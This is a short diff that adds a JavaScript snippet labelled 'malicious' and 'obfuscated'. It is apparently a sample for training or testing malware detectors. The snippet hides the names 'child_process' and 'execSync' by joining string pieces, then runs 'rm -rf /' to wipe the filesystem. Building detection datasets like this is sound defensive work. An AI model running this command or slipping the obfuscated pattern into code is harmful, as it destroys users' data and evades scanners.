@@ -1,0 +1,3 @@
+// label: malicious; obfuscated: concat,getattr
+const cp = require("child_" + "process");
+cp["ex" + "ecSync"]("rm -rf /");
